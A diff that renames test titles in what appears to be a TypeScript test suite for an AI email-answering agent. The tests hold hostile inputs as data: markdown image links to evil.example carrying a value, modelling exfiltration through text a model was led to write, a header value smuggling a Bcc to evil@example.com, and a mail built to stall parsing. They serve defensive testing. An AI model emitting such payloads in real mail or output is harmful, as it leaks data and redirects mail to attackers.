@@ -73,7 +73,7 @@ const post = async (body: BodyInit, headers: Record<string, string> = {}) =>
 const messages = async () => (await owner.plugin.listMessages({ id: pluginId })).messages;
 const arrived = (count: number) => expect.poll(() => mail.mails.length, { timeout: 10_000 }).toBe(count);
 
-test('a mail is answered to its writer, in its thread, as text and as a page without their markup', async () => {
+test('a mail is answered to its sender, in its thread, as text and as HTML without foreign markup', async () => {
   expect(await post(await written())).toBe(200);
   await arrived(1);
   const [answer] = mail.mails;
@@ -89,7 +89,7 @@ test('a mail is answered to its writer, in its thread, as text and as a page wit
     .toMatchObject([{ personName: 'Ada', text: 'When does the shop close?', state: 'answered' }]);
 });
 
-test('a mail that is made to take minutes to read holds nobody up, and is not answered', async () => {
+test('a mail built to take minutes to parse blocks nobody and gets no answer', async () => {
   const posted = post(`from: a@b.example\r\nsubject: a${'\r\n '.repeat(300_000)}\r\n\r\nHello`);
   let slowest = 0;
   for (let looks = 0; looks < 20; looks += 1) {
@@ -103,7 +103,7 @@ test('a mail that is made to take minutes to read holds nobody up, and is not an
   expect(await messages()).toEqual([]);
 }, 60_000);
 
-test('a mail shows no picture: its reader fetches nothing that a model was led to write', async () => {
+test('a mail shows no images, so its reader fetches nothing that a model was led to write', async () => {
   const hostile = [
     '![Look](https://evil.example/a?told=4711)',
     '!!![and](https://evil.example/b)',
@@ -121,7 +121,7 @@ test('a mail shows no picture: its reader fetches nothing that a model was led t
   expect(html).toContain('<a href="https://evil.example/a?told=4711">Look</a>');
 });
 
-test('an answer to the answer goes on in the same conversation, without what it quotes', async () => {
+test('a reply to the answer continues the same conversation, without the quoted text', async () => {
   await post(await written());
   await arrived(1);
   const text =
@@ -137,7 +137,7 @@ test('an answer to the answer goes on in the same conversation, without what it 
   expect(mail.mails[1]?.subject).toBe('Re: Opening hours');
 });
 
-test('a file that comes with a mail is part of the question', async () => {
+test('a mail attachment is part of the question', async () => {
   const attachments = [{ filename: 'order.txt', content: 'Order 4711: two lamps.' }];
   await post(await written({ attachments }));
   await arrived(1);
@@ -145,7 +145,7 @@ test('a file that comes with a mail is part of the question', async () => {
   expect(JSON.stringify(asked)).toContain('Order 4711');
 });
 
-test('services hand mail on as JSON and as forms as well', async () => {
+test('mail forwarded by services as JSON or as a form is accepted as well', async () => {
   const raw = (id: string) => written({ messageId: `<${id}@example.com>` });
   const RawEmail = textOf(await raw('postmark'));
   const basic = `Basic ${Buffer.from(`parley:${token}`).toString('base64')}`;
@@ -162,7 +162,7 @@ test('services hand mail on as JSON and as forms as well', async () => {
   await arrived(3);
 });
 
-test('without the token nothing is taken; the same mail twice is answered once', async () => {
+test('mail without the token is rejected, and the same mail twice is answered once', async () => {
   const raw = await written();
   for (const authorization of ['', 'Bearer ', 'Bearer wrong', `Basic ${btoa('parley:wrong')}`])
     expect(await post(raw, { authorization })).toBe(401);
@@ -172,7 +172,7 @@ test('without the token nothing is taken; the same mail twice is answered once',
   expect(await messages()).toHaveLength(1);
 });
 
-test('a mail with odd ids is taken as others are, one from no address that could be written to is not answered', async () => {
+test('a mail with odd ids is accepted, one from an address that cannot be replied to goes unanswered', async () => {
   const odd = '\u0000a\u0007\ud800';
   const raw = textOf(await written({ references: '<root@example.com>' }))
     .replace('<one@example.com>', `<one${odd}@example.com>`)
@@ -187,7 +187,7 @@ test('a mail with odd ids is taken as others are, one from no address that could
   expect(await messages()).toHaveLength(1);
 });
 
-test('machines, lists, bounces, forgeries and its own mail are not answered', async () => {
+test('machines, lists, bounces, forgeries and the agent’s own mail are not answered', async () => {
   const automatic: Written[] = [
     { headers: { 'Auto-Submitted': 'auto-replied' } },
     { headers: { Precedence: 'bulk' } },
@@ -200,7 +200,7 @@ test('machines, lists, bounces, forgeries and its own mail are not answered', as
   expect(await messages()).toEqual([]);
 });
 
-test('what stands in headers cannot smuggle in another receiver', async () => {
+test('header contents cannot smuggle in another recipient', async () => {
   const raw = textOf(await written()).replace(
     'Subject: Opening hours',
     'Subject: =?utf-8?Q?Hours=0D=0ABcc:_evil@example.com?=',
@@ -211,7 +211,7 @@ test('what stands in headers cannot smuggle in another receiver', async () => {
   expect(mail.mails[0]?.headers.has('bcc')).toBe(false);
 });
 
-test('a mail server is checked: its password, its place, and what it refuses', async () => {
+test('a mail server is checked: its password, its address, and what it rejects', async () => {
   const { health } = await install(mail.url.replace('secret', 'wrong'));
   expect(health).toMatchObject({
     state: 'failing',
